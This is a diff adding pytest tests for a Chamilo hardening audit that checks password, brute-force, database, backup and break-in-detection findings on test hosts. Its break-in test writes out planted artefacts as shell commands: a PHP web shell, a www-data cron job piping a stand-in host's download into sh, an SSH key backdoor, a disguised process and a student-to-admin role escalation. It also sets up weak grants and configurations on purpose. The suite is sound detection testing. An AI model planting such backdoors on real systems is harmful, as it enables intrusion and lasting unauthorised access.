@@ -1,0 +1,390 @@
+"""The audit's sections passwords, brute_force, database, backups and monitoring, on real hosts.
+
+Each is red on a sloppy host for the right reason, green once the thing is done by hand, and red again when undone.
+The checks run on the host under its own Python, without Ansible around them.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+
+from tests.testbed.engine import ROOT
+from tests.testbed.hosts import Host
+
+SECTIONS = ("passwords", "brute_force", "database", "backups", "monitoring")
+FOLDER = "/opt/audit"
+PACKAGE = "ansible_collections/chamilo/hardening/plugins/module_utils"
+PROGRAM = f"""
+import json, sys, time
+sys.path.insert(0, "{FOLDER}")
+sys.dont_write_bytecode = True
+from {PACKAGE.replace("/", ".")}._audit import {", ".join(SECTIONS)}
+from {PACKAGE.replace("/", ".")}._control import checks, observe
+from {PACKAGE.replace("/", ".")}._look import Look
+from {PACKAGE.replace("/", ".")}._site import discover
+options = json.load(sys.stdin)
+wanted = tuple(options.pop("sections"))
+look = Look(discover(options.pop("domain")), options)
+began = time.monotonic()
+found = observe({{name: check for name, check in checks.items() if name.startswith(wanted)}}, look)
+json.dump({{"seconds": time.monotonic() - began, "signs": monitoring.signs(look) if "monitoring_" in wanted else [],
+           "found": {{name: [finding.status, finding.evidence] for name, finding in found.items()}}}}, sys.stdout)
+"""
+
+FAILURE = '"POST /(?:login_json|login/ldap/check|api/authentication_token)(?:\\?\\S*)? HTTP/[^"]+" (?:401|403|429) '
+# "%" is special in fail2ban's files; there is none here.
+CAREFUL = rf"^<ADDR> \S+ [^\[]*\[\] {FAILURE}"
+CARELESS = r"^.*<ADDR> - - \[\].*POST /login_json"
+OWN_LOG = r"^\s*\[\S+ <ADDR>\] Login failed for username "
+
+
+@dataclass(frozen=True)
+class Audit:
+    status: Mapping[str, str]
+    evidence: Mapping[str, str]
+    seconds: float
+    signs: list[str]
+
+
+def audit(host: Host, *sections: str, user: str = "root", **options: Any) -> Audit:
+    prefixes = [f"{section}_" for section in sections or SECTIONS]
+    words = ["python3", "-c", PROGRAM]
+    told = json.dumps({"domain": host.domain, "sections": prefixes, **options})
+    answer = json.loads(host.run(words, user=user, data=told).stdout)
+    found = answer["found"]
+    return Audit(
+        {name: status for name, (status, _evidence) in found.items()},
+        {name: evidence for name, (_status, evidence) in found.items()},
+        answer["seconds"],
+        answer["signs"],
+    )
+
+
+def install(host: Host) -> Host:
+    host.put_tree(ROOT / "plugins/module_utils", f"{FOLDER}/{PACKAGE}")
+    return host
+
+
+@pytest.fixture
+def sloppy(stage: Callable[..., Host]) -> Host:
+    return stage("with the audit", install)
+
+
+def sql(host: Host, text: str, database: str = "chamilo") -> str:
+    return host.run(["mariadb", "--batch", "--skip-column-names", database], data=text).stdout
+
+
+def setting(host: Host, variable: str, value: str, portal: int = 1) -> None:
+    """As an administrator saves it: the row of that portal, or a new one like the main one."""
+    quoted = value.replace("\\", "\\\\").replace("'", "''")
+    where = f"variable = '{variable}' AND category = 'security' AND access_url = {portal}"
+    if sql(host, f"SELECT COUNT(*) FROM settings WHERE {where};").strip() == "0":
+        sql(
+            host,
+            "INSERT INTO settings (access_url, variable, category, selected_value, title, access_url_changeable)"
+            f" VALUES ({portal}, '{variable}', 'security', '{quoted}', '', 1);",
+        )
+    sql(host, f"UPDATE settings SET selected_value = '{quoted}' WHERE {where};")
+
+
+RED = {
+    "passwords_length": "5 characters",
+    "passwords_mix": "no mix of cases",
+    "passwords_enforced": "'false'",
+    "passwords_expiry": "'0'",
+    "brute_force_lock": "'0'",
+    "brute_force_captcha": "'false'",
+    "brute_force_captcha_block": "''",
+    "brute_force_fail2ban": "not installed",
+    "brute_force_unlock": "no program",
+    "database_account": "an administrator by another name",
+    "database_privileges": "ALL PRIVILEGES on *.*",
+    "database_bind": "0.0.0.0:3306",
+    "database_audit_log": "not loaded",
+    "backups_database": "No backup of the database",
+    "backups_files": "No backup of the uploads",
+    "backups_offsite": "No copy on another machine",
+    "backups_encrypted": "No encrypted backup",
+    "backups_restore_tested": "Nobody wrote down",
+    "backups_private": "public/dump.sql",
+    "monitoring_app_log": "nothing shows that errors",
+    "monitoring_resources": "Nothing watches",
+    "monitoring_auth": "Nobody is told",
+    "monitoring_accounts": "2 are administrators: admin, second.admin",
+    "monitoring_delivery": "No test alert",
+    "monitoring_integrity": "Nothing compares",
+}
+
+
+def test_a_sloppy_host_is_red_for_the_right_reasons(sloppy: Host) -> None:
+    sloppy.run("rm -f /var/www/chamilo/var/log/*.log")
+    found = audit(sloppy)
+    unlike = {
+        name: f"{found.status[name]}: {found.evidence[name]}"
+        for name, words in RED.items()
+        if found.status[name] != "fail" or words not in found.evidence[name]
+    }
+    assert unlike == {}
+    assert {name: status for name, status in found.status.items() if name not in RED} == {
+        "brute_force_forgery": "not_applicable",
+        "brute_force_friends": "not_applicable",
+        "monitoring_compromise": "pass",
+    }
+    password = sloppy.run("sed -n \"s/^DATABASE_PASSWORD='\\(.*\\)'$/\\1/p\" /var/www/chamilo/.env").stdout.strip()
+    assert password and password not in json.dumps(dict(found.evidence))
+    print(f"\n{len(found.status)} checks in {found.seconds:.2f} s")
+
+
+def test_the_audit_changes_nothing_and_logs_no_failed_login(sloppy: Host) -> None:
+    audit(sloppy)  # the first request of all makes the application's own cache
+    before = sloppy.snapshot()
+    audit(sloppy)
+    logs = ("/var/log/*", "/var/www/chamilo/var/log/*", "/var/www/chamilo/var/cache/*", "/var/lib/php/sessions*")
+    assert before.changes(sloppy.snapshot(), ignore=logs) == []
+    assert sql(sloppy, "SELECT COUNT(*) FROM track_e_login_record WHERE login_date > NOW() - INTERVAL 1 HOUR;") == "0\n"
+
+
+def test_an_ordinary_account_sees_less_and_claims_nothing(sloppy: Host) -> None:
+    sloppy.run("chmod -R o-rwx /var/www/chamilo/var /var/www/chamilo/.env /var/www/chamilo/config")
+    found = audit(sloppy, user="nobody")
+    assert set(found.status.values()) <= {"fail", "not_assessed", "not_applicable"}
+    assert "cannot be read: Permission denied" in found.evidence["passwords_length"]
+    assert "root" in found.evidence["brute_force_fail2ban"]
+    assert "root only" in found.evidence["database_bind"]
+
+
+SETTINGS = {
+    "password_requirements": '{"min":{"length":12,"lowercase":1,"uppercase":1,"numeric":1,"specials":1}}',
+    "check_password": "true",
+    "password_rotation_days": "180",
+    "login_max_attempt_before_blocking_account": "5",
+    "allow_captcha": "true",
+    "captcha_number_mistakes_to_block_account": "5",
+    "captcha_time_to_block": "15",
+}
+OF_SETTINGS = (
+    "passwords_length",
+    "passwords_mix",
+    "passwords_enforced",
+    "passwords_expiry",
+    "brute_force_lock",
+    "brute_force_captcha",
+    "brute_force_captcha_block",
+)
+
+
+@pytest.mark.parametrize("driver", ["client", "pymysql"])
+def test_settings_as_every_portal_uses_them(sloppy: Host, driver: str) -> None:
+    if driver == "pymysql":
+        sloppy.run("apt-get -qq update && apt-get -qq -y install python3-pymysql >/dev/null 2>&1")
+    for variable, value in SETTINGS.items():
+        setting(sloppy, variable, value)
+    found = audit(sloppy, "passwords", "brute_force")
+    assert {name: found.evidence[name] for name in OF_SETTINGS if found.status[name] != "pass"} == {}
+
+    # A second portal with a weaker rule of its own, as long as the main one lets it.
+    sql(sloppy, "INSERT INTO access_url (url, active, created_by) VALUES ('https://second.test/', 1, 1);")
+    second = int(sql(sloppy, "SELECT id FROM access_url WHERE url = 'https://second.test/';"))
+    setting(sloppy, "check_password", "false", second)
+    sql(sloppy, "UPDATE settings SET access_url_changeable = 1 WHERE variable = 'check_password';")
+    found = audit(sloppy, "passwords")
+    assert found.status["passwords_enforced"] == "fail"
+    assert "'false' on https://second.test/" in found.evidence["passwords_enforced"]
+    sql(sloppy, "UPDATE settings SET access_url_changeable = 0 WHERE variable = 'check_password' AND access_url = 1;")
+    assert audit(sloppy, "passwords").status["passwords_enforced"] == "pass"
+
+    # The override file wins over the database, for better and for worse.
+    path = "/var/www/chamilo/config/settings_overrides.yaml"
+    text = "parameters:\n    settings_overrides:\n        default:\n            security.allow_captcha: {}\n"
+    for value, status in (("'true'", "pass"), ("true", "fail"), ("'false'", "fail")):
+        sloppy.put(path, text.format(value))
+        assert audit(sloppy, "brute_force").status["brute_force_captcha"] == status, value
+    sloppy.put(path, "parameters: &x\n")
+    found = audit(sloppy, "passwords")
+    assert set(found.status.values()) == {"not_assessed"}
+    assert "line 1" in found.evidence["passwords_length"]
+    sloppy.run(["rm", path])
+
+    # A row under the category that an early release had is not read.
+    sql(sloppy, "UPDATE settings SET category = 'platform' WHERE variable LIKE 'login_max_attempt%';")
+    assert audit(sloppy, "brute_force").status["brute_force_lock"] == "fail"
+
+
+def test_account_privileges_and_reach_of_the_database(sloppy: Host) -> None:
+    password = sloppy.run("sed -n \"s/^DATABASE_PASSWORD='\\(.*\\)'$/\\1/p\" /var/www/chamilo/.env").stdout.strip()
+    eight = "SELECT, INSERT, UPDATE, DELETE, CREATE, ALTER, DROP, INDEX"
+    sql(
+        sloppy,
+        f"DROP USER 'chamilo'@'%';GRANT {eight} ON chamilo.* TO 'chamilo'@'localhost' IDENTIFIED BY '{password}';",
+    )
+    sloppy.put("/etc/mysql/mariadb.conf.d/99-test.cnf", "[mariadbd]\nbind-address = 127.0.0.1\n")
+    sloppy.run("systemctl restart mariadb")
+    found = audit(sloppy, "database")
+    good = ("database_account", "database_privileges", "database_bind")
+    assert {name: found.evidence[name] for name in good if found.status[name] != "pass"} == {}
+    assert "127.0.0.1:3306" in found.evidence["database_bind"]
+
+    for statement, words in (
+        ("GRANT FILE ON *.* TO 'chamilo'@'localhost';", "FILE on *.*"),
+        ("GRANT TRIGGER ON chamilo.* TO 'chamilo'@'localhost';", "TRIGGER on chamilo.*"),
+        ("GRANT SELECT ON shop.* TO 'chamilo'@'localhost';", "SELECT on shop.*"),
+        ("CREATE ROLE helpers; GRANT helpers TO 'chamilo'@'localhost';", "helpers"),
+    ):
+        sql(sloppy, statement)
+        found = audit(sloppy, "database")
+        assert found.status["database_privileges"] == "fail", statement
+        assert words in found.evidence["database_privileges"]
+        sql(sloppy, "REVOKE ALL PRIVILEGES, GRANT OPTION FROM 'chamilo'@'localhost'; DROP ROLE IF EXISTS helpers;")
+        sql(sloppy, f"GRANT {eight} ON chamilo.* TO 'chamilo'@'localhost';")
+    assert audit(sloppy, "database").status["database_privileges"] == "pass"
+
+    address = sloppy.run("hostname -I").stdout.split()[0]
+    sloppy.put("/etc/mysql/mariadb.conf.d/99-test.cnf", f"[mariadbd]\nbind-address = {address}\n")
+    sloppy.run("systemctl restart mariadb")
+    assert address in audit(sloppy, "database").evidence["database_bind"]
+
+    sql(
+        sloppy,
+        "INSTALL SONAME 'server_audit'; SET GLOBAL server_audit_file_rotate_size = 1000000;"
+        "SET GLOBAL server_audit_logging = ON; CREATE USER x@localhost IDENTIFIED BY 'a-password-to-mask';",
+    )
+    found = audit(sloppy, "database")
+    assert found.status["database_audit_log"] == "pass", found.evidence["database_audit_log"]
+    sloppy.run("chmod o+r /var/lib/mysql/server_audit.log")
+    assert "every account" in audit(sloppy, "database").evidence["database_audit_log"]
+    sql(sloppy, "SET GLOBAL server_audit_logging = OFF;")
+    assert audit(sloppy, "database").status["database_audit_log"] == "fail"
+
+
+def test_a_daily_dump_of_ones_own(sloppy: Host) -> None:
+    script = "#!/bin/sh\nset -e\numask 077\nmkdir -p /var/backups/db\n{dump} chamilo >/var/backups/db/chamilo.sql\n"
+    good = script.format(dump="mariadb-dump --single-transaction")
+    sloppy.put("/etc/cron.daily/dump", good, mode="0755")
+    sloppy.run("/etc/cron.daily/dump; rm /var/www/chamilo/public/dump.sql")
+    found = audit(sloppy, "backups")
+    assert found.status["backups_database"] == "pass", found.evidence["backups_database"]
+    assert found.status["backups_private"] == "pass", found.evidence["backups_private"]
+    assert found.status["backups_encrypted"] == "fail"
+    assert found.status["backups_offsite"] == "fail"
+
+    for damage, words in (
+        ("truncate -s -200 /var/backups/db/chamilo.sql", "cut off"),
+        ("touch -d '2 days ago' /var/backups/db/chamilo.sql", "48 hours old"),
+        ("chmod -x /etc/cron.daily/dump", "no job that is known"),
+        ("sed -i 's/ --single-transaction//' /etc/cron.daily/dump", "without --single-transaction"),
+    ):
+        sloppy.run(damage)
+        found = audit(sloppy, "backups")
+        assert found.status["backups_database"] == "fail", damage
+        assert words in found.evidence["backups_database"]
+        sloppy.put("/etc/cron.daily/dump", good, mode="0755")
+        sloppy.run("/etc/cron.daily/dump")
+    sloppy.run("chmod 755 /var/backups/db; chmod 644 /var/backups/db/chamilo.sql")
+    assert "/var/backups/db/chamilo.sql" in audit(sloppy, "backups").evidence["backups_private"]
+
+
+def with_fail2ban(host: Host) -> None:
+    install(host)
+    host.run(
+        "apt-get -qq update && DEBIAN_FRONTEND=noninteractive apt-get -qq -y --no-install-recommends install"
+        " fail2ban python3-systemd nftables >/dev/null 2>&1"
+    )
+    # Debian 12's default jail wants a log file that a host with the journal alone does not have.
+    host.put("/etc/fail2ban/jail.d/zz-test.conf", "[sshd]\nbackend = systemd\n[DEFAULT]\nbanaction = nftables\n")
+
+
+def jail(host: Host, expression: str, log: str, more: str = "") -> None:
+    host.put("/etc/fail2ban/filter.d/chamilo-auth.conf", f"[Definition]\nfailregex = {expression}\n")
+    text = f"[chamilo]\nenabled = true\nport = http,https\nfilter = chamilo-auth\nlogpath = {log}\nmaxretry = 5\n"
+    host.put("/etc/fail2ban/jail.d/chamilo.conf", f"{text}bantime = 900\n{more}")
+    host.run("systemctl restart fail2ban")
+    host.run("for _ in $(seq 50); do fail2ban-client status chamilo >/dev/null 2>&1 && exit 0; sleep 0.2; done; exit 1")
+
+
+def test_the_running_fail2ban(stage: Callable[..., Host]) -> None:
+    host = stage("with the audit and fail2ban", with_fail2ban)
+    log = {"nginx": "/var/log/nginx/access.log", "apache": "/var/log/apache2/access.log"}[host.web]
+    found = audit(host, "brute_force")
+    assert found.status["brute_force_fail2ban"] == "fail"
+    jail(host, CAREFUL, log)
+    found = audit(host, "brute_force")
+    three = ("brute_force_fail2ban", "brute_force_forgery", "brute_force_friends")
+    assert {name: found.evidence[name] for name in three if found.status[name] != "pass"} == {}
+    assert log in found.evidence["brute_force_fail2ban"]
+    # A declared network that the jail knows nothing of.
+    assert audit(host, "brute_force", friends=["10.9.8.0/24"]).status["brute_force_friends"] == "fail"
+
+    # What is in the files does not count; what runs does.
+    host.put("/etc/fail2ban/jail.d/chamilo.conf", "")
+    assert audit(host, "brute_force").status["brute_force_fail2ban"] == "pass"
+
+    jail(host, CAREFUL.replace("|api/authentication_token", ""), log)
+    assert "/api/authentication_token" in audit(host, "brute_force").evidence["brute_force_fail2ban"]
+    jail(host, CAREFUL, log, "action = %(mta)s-whois-lines[name=chamilo]\n")
+    assert "refuses packets" in audit(host, "brute_force").evidence["brute_force_fail2ban"]
+    jail(host, CARELESS, log)
+    found = audit(host, "brute_force")
+    assert found.status["brute_force_forgery"] == "fail"
+    assert "referer and user agent" in found.evidence["brute_force_forgery"]
+
+    # The application's own log: only English, and a user name can forge whole lines of it.
+    host.run("install -d -o www-data /var/www/chamilo/var/log/ids && echo >/var/www/chamilo/var/log/ids/ids.log")
+    jail(host, OWN_LOG, "/var/www/chamilo/var/log/ids/ids.log", "datepattern = ^\\[%%Y-%%m-%%d %%H:%%M:%%S\\]\n")
+    found = audit(host, "brute_force")
+    assert found.status["brute_force_fail2ban"] == "fail"
+    assert "a line break in the user name" in found.evidence["brute_force_forgery"]
+
+    # A server that believes anybody about the address a request comes from.
+    jail(host, CAREFUL, log)
+    if host.web == "nginx":
+        host.put("/etc/nginx/conf.d/proxy.conf", "set_real_ip_from 0.0.0.0/0;\nreal_ip_header X-Forwarded-For;\n")
+        host.run("systemctl reload nginx")
+    else:
+        host.put("/etc/apache2/conf-enabled/proxy.conf", "RemoteIPHeader X-Forwarded-For\n")
+        host.run("sed -i 's/LogFormat \"%h /LogFormat \"%a /' /etc/apache2/apache2.conf")
+        host.run("a2enmod -q remoteip && systemctl restart apache2")
+    host.wait("/login")
+    found = audit(host, "brute_force")
+    assert found.status["brute_force_forgery"] == "fail"
+    assert "X-Forwarded-For" in found.evidence["brute_force_forgery"]
+
+    host.run("systemctl stop fail2ban")
+    assert "does not run" in audit(host, "brute_force").evidence["brute_force_fail2ban"]
+
+
+PLANTED = {
+    "PHP where only data belongs": "echo '<?php echo 1;' >/var/www/chamilo/var/upload/resource/x.php",
+    "PHP among assets": "echo '<?php echo 1;' >/var/www/chamilo/public/img/logo.php",
+    "what looks like a web shell": "echo '<?php system($_GET[\"c\"]);' >/var/www/chamilo/public/main/inc.php",
+    "a cron job of the web user": "echo '* * * * * curl -s http://x.test/ | sh' | crontab -u www-data -",
+    "a way back in": "install -d /var/www/.ssh && echo ssh-ed25519 >/var/www/.ssh/authorized_keys",
+    "a process of the web user": (
+        "cp /bin/sleep /var/tmp/kworkerd && setsid runuser -u www-data /var/tmp/kworkerd 300 >/dev/null 2>&1 &"
+    ),
+    "pupils with an administrator's rights": (
+        "mariadb chamilo -e \"UPDATE user SET roles = REPLACE(roles, '12:\\\"ROLE_STUDENT', '10:\\\"ROLE_ADMIN')"
+        " WHERE username = 'student07'\""
+    ),
+}
+
+
+def test_signs_of_a_break_in(sloppy: Host) -> None:
+    sloppy.run("mkdir -p /var/www/chamilo/var/upload/resource")
+    sloppy.wait("/login")
+    found = audit(sloppy, "monitoring")
+    assert found.status["monitoring_compromise"] == "pass", found.evidence["monitoring_compromise"]
+    assert found.signs == []
+    # A stranger takes the dump that lies under the web root.
+    assert sloppy.http("/dump.sql").status == 200
+    for command in PLANTED.values():
+        sloppy.run(command)
+    found = audit(sloppy, "monitoring")
+    assert found.status["monitoring_compromise"] == "fail"
+    wanted = (*PLANTED, "a database dump answered a stranger 1 times")
+    assert [words for words in wanted if not any(sign.startswith(words) for sign in found.signs)] == []
+    assert len(found.signs) == len(wanted)
